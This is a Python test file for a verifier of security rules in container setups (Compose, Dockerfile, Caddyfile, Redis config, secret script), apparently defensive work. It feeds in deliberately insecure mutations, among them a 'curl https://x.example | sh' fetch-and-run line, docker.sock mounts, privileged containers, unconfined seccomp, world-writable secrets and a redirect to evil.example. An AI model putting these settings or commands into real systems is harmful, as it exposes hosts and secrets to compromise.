"""Each rule is kept by the shop as it is, and broken by the one line that should break it."""

from pathlib import Path

import pytest

from lawyers_hub.proof.verify.compose import RULES
from lawyers_hub.proof.verify.findings import Verdict
from tests.unit.proof.verify.compose.shop import shop

# Without `compose-`, with which most of these names begin.
BROKEN = [
    ("images-pinned", "caddy:2.11.7", "caddy:2", "caddy:2, which is not one exact version"),
    ("images-pinned", "caddy:2.11.7", "caddy", "not one exact version"),
    ("images-pinned", "image: caddy:2.11.7", "build: .", "an image without a name"),
    ("images-pinned", "caddy:2.11.7", "registry.example:5000/caddy", "not one exact version"),
    ("budgets", '"0.50"', '"0.6"', "limits of shop say 600 thousandths of a core for cpus, and 500"),
    ("budgets", '"0.10", memory: 64M', '"0.10", memory: 65M', "reservations of shop say 65 MiB for memory, and 64"),
    ("budgets", 'reservations: {cpus: "0.1",', "reservations: {", "reservations of till say nothing for cpus"),
    ("replicas", "replicas: 2", "replicas: 1", "shop runs 1 times, and 2 are needed"),
    ("read-only-root", "read_only: true\n  cap", "read_only: false\n  cap", "till can write everywhere"),
    ("no-capabilities", "cap_drop: [ALL]", "cap_drop: [NET_RAW]", "till keeps rights of root's"),
    ("no-capabilities", "[NET_BIND_SERVICE]", "[SYS_ADMIN]", "door is given the right SYS_ADMIN"),
    ("no-capabilities", "command: [sell]", "cap_add: [NET_BIND_SERVICE]", "shop is given the right NET_BIND_SERVICE"),
    ("no-new-privileges", '["no-new-privileges:true"]', "[]", "a program in till can take more rights"),
    ("no-new-privileges", 'privileges:true"', 'privileges:true", "seccomp:unconfined"', "without the confinement"),
    ("apart-from-the-machine", "command: [sell]", "privileged: true", "shop is privileged"),
    ("apart-from-the-machine", "command: [sell]", "pid: host", "shop shares pid with the machine"),
    ("apart-from-the-machine", "networks: [watched, machine]", "network_mode: host", "watch shares network_mode"),
    ("apart-from-the-machine", "./till.conf:", "/var/run/docker.sock:", "till holds /var/run/docker.sock"),
    ("apart-from-the-machine", "command: [sell]", "devices: [/dev/kvm]", "shop holds devices of the machine"),
    (
        "runs-what-is-verified",
        "./looking:",
        "./other:",
        "looking/rules is what is judged, and no container is given it",
    ),
    ("runs-what-is-verified", "looking/prometheus.yml]", "looking/p.yml]", "configured by looking/p.yml, which nobody"),
    ("not-root", 'user: "999"', 'user: "0:0"', "till runs as root"),
    ("health-checks", "{test: [CMD, ask]}", "{disable: true}", "watch runs all the time, and nobody asks"),
    ("health-checks", "{test: [CMD, ask]}", '{test: ["NONE"]}', "watch runs all the time, and nobody asks"),
    ("restart-policy", "unless-stopped", "on-failure", "shop stays down"),
    ("restart-policy", 'restart: "no"', "restart: always", "prepare runs once before others, and would be"),
    ("start-order", "till: {condition: service_healthy}\n      prep", "prep", "shop needs till and does not wait"),
    ("start-order", "service_completed_successfully", "service_started", "waits for it only until service_started"),
    ("start-order", "command: [valkey", "depends_on: [watch]\n    command: [valkey", "till starts only after watch"),
    ("secrets-in-files", "TILL_PASSWORD_FILE: /run/secrets/till", "TILL_PASSWORD: x", "environment: TILL_PASSWORD"),
    ("secrets-in-files", "HOST: ${HOST:?say under which name}", "TILL: redis://a:x@till", "environment: TILL"),
    ("secrets-in-files", "--dir, /data", "--requirepass, sesame", "the command of till holds a password"),
    ("secrets-in-files", "{file: ./secrets/till}", "{environment: TILL}", "the secret till comes from environment"),
    ("networks-internal", "money: {internal: true, ", "money: {", "money has a way out of the house, and till may not"),
    ("networks-internal", '"false"', '"true"', "entrance leads to the internet, where door may not go"),
    ("published-ports", "command: [sell]", 'ports: ["8080:8080"]', "shop is published on 8080"),
    ("published-ports", '"443:443"', '"443:8443"', "its own 8443"),
    ("published-ports", '"443:443"', '"127.0.0.1:443:443"', "on 443 of 127.0.0.1"),
    ("published-ports", '    ports: ["443:443"]\n', "", "people should reach door on 443"),
    ("one-configuration", "till.conf:ro", "till.conf", "till is not started with till.conf, or could change it"),
    ("one-configuration", "/etc/till.conf, --dir", "--dir", "till is not started with till.conf"),
    ("one-configuration", "--dir, /data", '--appendonly, "no"', "--appendonly, which till.conf already says"),
    ("names-of-ones-own", "[watched, machine]", "{watched: {aliases: [till]}}", "watch answers to the name of till"),
    ("every-service", "  watch:\n", "  spy:\n", "spy runs under Compose, and the topology declares no such service"),
    ("every-service", "  watch:\n", "  spy:\n", "watch is declared and does not run under Compose"),
    ("kept-in-volumes", '      - "till:/data"\n', "", "till keeps data, and in no volume with a name"),
    ("kept-in-volumes", '"till:/data"', "/data", "till writes to /data in a volume that has no name"),
    ("binds-read-only", "till.conf:ro", "till.conf", "till can change till.conf on the machine"),
    ("scratch-owned", "/run:size=1m,uid=65534", "/run:size=1m", "whether door can write to /run"),
    ("logs-bounded", "  logging: {driver: local}\n", "", "what door logs grows"),
    ("logs-bounded", "driver: local", "driver: json-file", "what door logs grows"),
    (
        "secrets-of-ones-own",
        "command: [valkey",
        "secrets: [till]\n    command: [valkey",
        "till is given the secret",
    ),
    ("secrets-of-ones-own", "    secrets: [till]\n", "", "shop is not given the secret till, which is its own"),
    ("health-asks", "ask]}", "true]}", "the health check of till cannot fail"),
    ("health-asks", "[CMD, ask]", '"ask || exit 0"', "the health check of till cannot fail"),
    ("health-asks", "[CMD, ask]", "[ask, it]", "begins with ask, which is none of CMD"),
    ("health-asks", "[CMD, ask]", "[CMD-SHELL, ask, it]", "has several words, of which 'ask' alone is run"),
    ("health-asks", "127.0.0.1:8080/ready", "till:8080/ready", "the health check of shop asks till, which is another"),
    ("health-asks", "8080/ready", "8081/ready", "asks on port 8081, and shop listens on no such port"),
    ("health-asks", "8080/ready", "8080/", "asks for /, and shop tells how it is at /alive and /ready"),
    ("health-asks", "interval: 10s", "interval: 10m", "is made every 600 s"),
    ("health-asks", "interval: 10s", "retries: 99", "must fail 99 times"),
    ("paths-lead", "looking/prometheus.yml]", "looking/p.yml]", "is started with /etc/looking/p.yml, and there is no"),
    ("paths-lead", "./looking:", "./lokking:", "watch is given lokking, which is not there"),
    (
        "paths-lead",
        "/run/secrets/till",
        "/run/secrets/tills",
        "shop is told to read /run/secrets/tills, and is given no",
    ),
    ("paths-lead", "/run/secrets/till", "/run/secrets/tills", "given the secret till, and nothing tells it to read"),
    ("paths-lead", "command: [valkey", "environment: {K: file:///dat}\n    command: [valkey", "in none of its volumes"),
    ("paths-lead", "--dir, /data", "--dir, /tmp", "till keeps things in /tmp, which is in none of its volumes"),
    (
        "nothing-idle",
        "volumes:\n  till:",
        "volumes:\n  old:\n  till:",
        "the volume old is declared, and no service has it",
    ),
    ("nothing-idle", "  mail: {}", "  mail: {}\n  post: {}", "the network post is declared, and no service has it"),
    (
        "nothing-idle",
        "  till: {file: ./secrets/till}",
        "  till: {file: ./a}\n  other: {file: ./a}",
        "and another secret is",
    ),
    ("goes-in-peace", "    stop_grace_period: 1m\n", "", "till is killed after 10 s, and may take 30 to finish"),
    ("goes-in-peace", "command: [sell]", "stop_grace_period: 2s", "shop is killed after 2 s, and may take 5 to finish"),
    ("goes-in-peace", "command: [sell]", "stop_signal: SIGKILL", "shop is killed when it is told to stop"),
    (
        "goes-in-peace",
        "command: [sell]",
        'command: [sh, -c, "sell | tee log"]',
        "shop is started by a shell, which does not",
    ),
    ("logs-bounded", "driver: local", "driver: none", "what door logs is lost"),
    ("every-service", "command: [sell]", "profiles: [more]", "shop is declared, and is not started with the others"),
    ("scratch-bounded", "/tmp:size=16m", "/tmp:mode=1777", "door can fill the machine's memory through /tmp"),  # noqa: S108 - folders of a container
    ("scratch-bounded", "/tmp:size=8m", "/tmp:size=8k", "shop has 0.0078125 MiB in /tmp, and needs 8"),  # noqa: S108 - folders of a container
    ("subnets-apart", "10.9.0.16/28", "10.9.0.0/27", "the networks front and money have addresses in common"),
    ("subnets-apart", "10.9.0.16/28", "10.9.0.17/28", "the network money has a subnet that is none"),
    (
        "subnets-apart",
        "[money, tidying]",
        "{money: {ipv4_address: 10.9.0.1}, tidying: {}}",
        "till has the address 10.9.0.1, which is not in money",
    ),
    ("no-unsafe-settings", 'KEEP: "7"', 'KEEP: "7"\n      LOG_LEVEL: debug', "shop says 'LOG_LEVEL=debug'"),
    ("no-unsafe-settings", "prometheus.yml]", "prometheus.yml, --web.enable-admin-api]", "delete figures"),
    ("backups-as-declared", 'KEEP: "7"', 'KEEP: "6"', "shop is told KEEP=6, and 7 is declared"),
    ("backups-as-declared", 'KEEP: "7"', "A: 1", "nobody is told KEEP"),
]

DOCKERFILE = [
    ("dockerfile-base-pinned", "python:3.11.14-slim", "python:3", "a stage stands on python:3,"),
    ("dockerfile-not-root", "USER 10001\n", "", "the image runs as root"),
    ("dockerfile-not-root", "USER 10001", "USER 0:0", "the image runs as 0"),
    (
        "dockerfile-no-build-tools",
        "install -y curl",
        "install -y curl g++ libpq-dev",
        "build tools in it: g++, libpq-dev",
    ),
    ("dockerfile-hashes", "--require-hashes ", "", "packages are installed without being held to their hashes"),
    ("dockerfile-healthcheck", 'HEALTHCHECK CMD ["ask"]', "HEALTHCHECK NONE", "does not say how to ask"),
    ("dockerfile-labels", 'org.opencontainers.image.revision="2"', 'some="2"', "does not say its revision"),
    ("dockerfile-nothing-remote", "--checksum=sha256:aa ", "", "takes in https://example.com/goods.tar unseen"),
    ("dockerfile-nothing-remote", "install -y curl", "x; curl https://x.example | sh", "is run unseen while"),
    ("dockerfile-stages-exist", "--from=built", "--from=build", "the stage build is copied from, and there is none"),
    (
        "dockerfile-stages-exist",
        "COPY --from=built /goods /goods",
        "COPY . /goods",
        "everything that lies in the folder",
    ),
    ("dockerfile-stages-exist", "COPY --from=built /goods", "COPY .env", ".env is copied into the image"),
    ("dockerfile-runs-directly", 'CMD ["sell"]', "CMD sell", "CMD runs in a shell"),
    ("dockerfile-account-owns-little", "install -y curl", "install -y sudo", "may become root (sudo)"),
    ("dockerfile-account-owns-little", "USER 10001", "USER 10001:0", "the image runs in the group of root"),
    (
        "dockerfile-account-owns-little",
        "--uid 10001",
        "--uid 1001",
        "runs as 10001, and the account that was made is 1001",
    ),
    (
        "dockerfile-account-owns-little",
        "install -y curl",
        "install -y curl && chmod 777 /x",
        "lets every account write",
    ),
    (
        "dockerfile-account-owns-little",
        "ENV PATH",
        "ENV HOST=127.0.0.1 PATH",
        "lets nobody outside of the container ask it",
    ),
    ("dockerfile-no-secrets", "ENV PATH", "ENV API_KEY=1 PATH", "ENV API_KEY leaves a secret"),
    ("dockerfile-no-secrets", "USER 10001", "ARG GITHUB_TOKEN\nUSER 10001", "ARG GITHUB_TOKEN leaves a secret"),
]

CADDYFILE = [
    ("admin off", "admin 0.0.0.0:2019", "door takes orders from whoever reaches 0.0.0.0:2019"),
    (":443 {", ":8443 {", "door listens on 8443, and the topology declares 443"),
    ("\tbind 127.0.0.1\n", "", "door answers http://127.0.0.1:2020 on every address of it"),
    ("31536000", "0", "door does not tell browsers to come by TLS alone"),
    ("{$SHOP_HOST}", "{$SHOP}", "nobody tells door what SHOP is"),
    ("shop:8080", "shop:8081", "door leads to shop on 8081, where it does not listen"),
    ("shop:8080", "stall:8080", "door leads to stall, and nobody has that name"),
    ("shop:8080", "a-shop-1:8080", "door leads to 1 of the 2 containers of shop"),
    ("health_uri /ready", "health_uri /alive", "door asks shop at /alive whether it is ready"),
    ("handle /goods/*", "handle /wares/*", "door leads /wares to shop, which has those below /goods"),
    ("handle /goods/*", "handle_path /goods/*", "door takes /goods away before it leads"),
    ("import all", "import most", "imports most, and there is no such snippet"),
    ("\tbind 127.0.0.1\n", "\tbind 127.0.0.1\n}\n", "has a brace that closes nothing"),
    ("header Strict", "tls internal\n\theader Strict", "shows people a certificate that it made itself"),
    ("\trespond `", "\tredir https://evil.example{uri} 308\n\trespond `", "door sends people to evil.example"),
    (
        "health_uri /ready",
        "health_uri /ready\n\t\t\theader_up X-Forwarded-For {header.X-Forwarded-For}",
        "door tells shop what visitors say of where they come from",
    ),
    ("import all\n", "import all {\n", "has a brace that is never closed"),
    ("https://{$SHOP_HOST}:443 {", "https://{$SHOP_HOST}:443, http://x:443 {", "door leads on what comes in the clear"),
]

COLLECTOR = [
    ('endpoint: "0.0.0.0:4318', 'endpoint: "127.0.0.1:4318', "watch listens on 4318 to itself alone"),
    ("4318", "4317", "watch listens on 4317, which nobody declares or asks"),
    ("4318", "4317", "watch does not listen on 4318 (otlp_http), which is declared"),
    ("protocols: {http", "protocols: {grpc", "watch speaks grpc on 4318, which is otlp_http"),
    ("exporters: [keep]", "exporters: [debug]", "watch is to use debug, which is not among its exporters"),
    ("processors: [memory_limiter], ", "", "watch has memory_limiter among its processors, and does not use it"),
    ("trace_storage: memory", "trace_storage: disk", "watch keeps traces in disk, and has no such store"),
    ("limit_mib: 100", "limit_mib: 1000", "watch may take 1000 MiB, and is ended at 128"),
    ("spike_limit_mib: 20", "spike_limit_mib: 200", "its spike is as large as its limit"),
]

MADE = [
    ("in till", "in tills", "make.sh does not make till, the file of the secret till"),
    ("head -c 43", "head -c 4", "makes secrets of 4 signs, which can be guessed"),
    ("done", "chmod 0666 till; done", "make.sh lets everybody change secrets"),
    ("umask 077", "umask 022", "make.sh lets others read secrets"),
    ("till:6379", "till:6380", "writes the address till:6380, where nobody declared listens"),
]

TILL = [
    ("64mb", "256mb", "may keep 256 MiB, and its container has 128"),
    ("64mb", "64", "may keep 6.1e-05 MiB, with which it takes no jobs"),
    ("maxmemory 64mb", "", "grows until its container is ended"),
    ("yes\n", "yes\nport 6380\n", "listens on 6380, which is not declared"),
    ("yes\n", "yes\nbind 127.0.0.1\n", "listens to itself alone"),
    ("yes\n", "yes\nrequirepass sesame\n", "has its password in a file that everybody can read"),
    ("yes\n", "yes\nreplicaof 10.0.0.1 6379\n", "forgets what it has for what 10.0.0.1 6379 tells it"),
    ("yes\n", "yes\nmaxclients 4\n", "lets in 4 at a time"),
    ("yes\n", "yes\ntimeout 1\n", "hangs up on whoever waits for a job for 1 s"),
    ("yes\n", "yes\nstop-writes-on-bgsave-error no\n", "takes jobs that it cannot keep"),
]

UNKNOWN = [
    ("compose-images-pinned", "caddy:2.11.7", "caddy:${CADDY}", "nobody gives CADDY a value"),
    ("compose-read-only-root", "command: [sell]", "read_only: ${RO}", "nobody gives RO a value"),
    ("compose-not-root", 'user: "999"', "init: true", "as whom till runs is up to its image"),
    ("compose-replicas", "replicas: 2", "replicas: ${MANY}", "shop runs 1 times"),
    ("compose-published-ports", '"443:443"', '"${DOOR}:443"', "door is published on every tcp port"),
]


def test_the_shop_as_it_is_keeps_every_rule(tmp_path: Path) -> None:
    composition = shop(tmp_path)
    assert composition.faults == ()
    assert [finding for rule in RULES for finding in rule.check(composition)] == []


def test_every_rule_has_an_example_that_breaks_it() -> None:
    broken = {name_of(rule) for rule, *_ in BROKEN} | {rule for rule, *_ in DOCKERFILE}
    broken |= {
        "compose-dashboards-provided",
        "compose-doors-lead",
        "compose-doors-strict",
        "compose-redis-bounded",
        "compose-collector-whole",
        "compose-secrets-made",
    }
    assert broken == {rule.id for rule in RULES}


def name_of(rule: str) -> str:
    return next(one.id for one in RULES if one.id in (rule, f"compose-{rule}"))


def found(root: Path, rule: str, verdict: Verdict, file: str, old: str, new: str) -> list[str]:
    composition = shop(root, (old, new), file=file)
    findings = [one for each in RULES if each.id == rule for one in each.check(composition)]
    assert all(finding.rule == rule and finding.mend for finding in findings)
    return [finding.what for finding in findings if finding.verdict == verdict]


@pytest.mark.parametrize(("rule", "old", "new", "what"), BROKEN)
def test_a_line_that_breaks_a_rule_is_found(tmp_path: Path, rule: str, old: str, new: str, what: str) -> None:
    said = found(tmp_path, name_of(rule), "broken", "compose.yml", old, new)
    assert [one for one in said if what in one], said


@pytest.mark.parametrize(("rule", "old", "new", "what"), DOCKERFILE)
def test_a_line_of_the_dockerfile_is_found(tmp_path: Path, rule: str, old: str, new: str, what: str) -> None:
    said = found(tmp_path, rule, "broken", "Dockerfile", old, new)
    assert [one for one in said if what in one], said


@pytest.mark.parametrize(("old", "new", "what"), CADDYFILE)
def test_a_line_of_the_door_is_found(tmp_path: Path, old: str, new: str, what: str) -> None:
    rules = ("compose-doors-lead", "compose-doors-strict")
    said = [one for rule in rules for one in found(tmp_path, rule, "broken", "Caddyfile", old, new)]
    assert [one for one in said if what in one], said


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (
            'header Strict-Transport-Security "max-age=31536000"',
            "header {\n\t\tStrict-Transport-Security max-age=31536000\n\t}",
        ),
        ("handle /goods/* {", "@goods path /goods/*\n\thandle @goods {"),
        ("handle /goods/* {", "@goods {\n\t\tpath /goods/*\n\t}\n\thandle @goods {"),
        ("shop:8080", "shop-shop-1:8080 shop-shop-2:8080"),
        ("admin off\n", "admin off\n\tservers {\n\t\tprotocols h1 h2\n\t}\n"),
    ],
)
def test_a_door_may_say_the_same_in_other_words(tmp_path: Path, old: str, new: str) -> None:
    for rule in ("compose-doors-lead", "compose-doors-strict"):
        assert found(tmp_path, rule, "broken", "Caddyfile", old, new) == []


@pytest.mark.parametrize(
    ("old", "new", "what"),
    [
        ("looking/boards", "looking/bords", "watch looks for dashboards in /etc/looking/bords, and has them elsewhere"),
        ("type: file", "type: files", "watch takes dashboards from a files, and is given files"),
    ],
)
def test_dashboards_that_are_looked_for_elsewhere_are_found(tmp_path: Path, old: str, new: str, what: str) -> None:
    assert found(tmp_path, "compose-dashboards-provided", "broken", "looking/providers.yml", old, new) == [what]


@pytest.mark.parametrize(("old", "new", "what"), COLLECTOR)
def test_a_line_of_the_collector_is_found(tmp_path: Path, old: str, new: str, what: str) -> None:
    said = found(tmp_path, "compose-collector-whole", "broken", "looking/traces.yml", old, new)
    assert [one for one in said if what in one], said


@pytest.mark.parametrize(("old", "new", "what"), MADE)
def test_a_line_of_the_script_that_makes_secrets_is_found(tmp_path: Path, old: str, new: str, what: str) -> None:
    said = found(tmp_path, "compose-secrets-made", "broken", "make.sh", old, new)
    assert [one for one in said if what in one], said


@pytest.mark.parametrize(("old", "new", "what"), TILL)
def test_a_line_of_the_store_is_found(tmp_path: Path, old: str, new: str, what: str) -> None:
    said = found(tmp_path, "compose-redis-bounded", "broken", "till.conf", old, new)
    assert [one for one in said if what in one], said


@pytest.mark.parametrize(("rule", "old", "new", "what"), UNKNOWN)
def test_what_cannot_be_known_is_no_pass(tmp_path: Path, rule: str, old: str, new: str, what: str) -> None:
    said = found(tmp_path, rule, "unknown", "compose.yml", old, new)
    assert [one for one in said if what in one], said


def test_a_base_without_a_default_is_unknown(tmp_path: Path) -> None:
    said = found(tmp_path, "dockerfile-base-pinned", "unknown", "Dockerfile", "=python:3.11.14-slim", "")
    assert said == ["a stage stands on ${BASE}, which is not one exact version"] * 2


def test_a_configuration_that_is_not_there_is_unknown(tmp_path: Path) -> None:
    (rule,) = (rule for rule in RULES if rule.id == "compose-one-configuration")
    composition = shop(tmp_path)
    (tmp_path / "till.conf").unlink()
    assert [(finding.verdict, finding.what) for finding in rule.check(composition)] == [
        ("unknown", "there is no such file")
    ]


def test_a_finding_stands_on_the_line_that_says_it(tmp_path: Path) -> None:
    composition = shop(tmp_path, ("replicas: 2", "replicas: 3"))
    (finding,) = (one for rule in RULES if rule.id == "compose-replicas" for one in rule.check(composition))
    lines = (tmp_path / finding.place.file).read_text().splitlines()
    assert lines[finding.place.line - 1].strip() == "replicas: 3"


def test_without_a_dockerfile_nothing_is_said_of_one(tmp_path: Path) -> None:
    composition = shop(tmp_path, ('dockerfile = "Dockerfile"\n', ""), file="topology.toml")
    assert not [one for rule in RULES if rule.id.startswith("dockerfile") for one in rule.check(composition)]
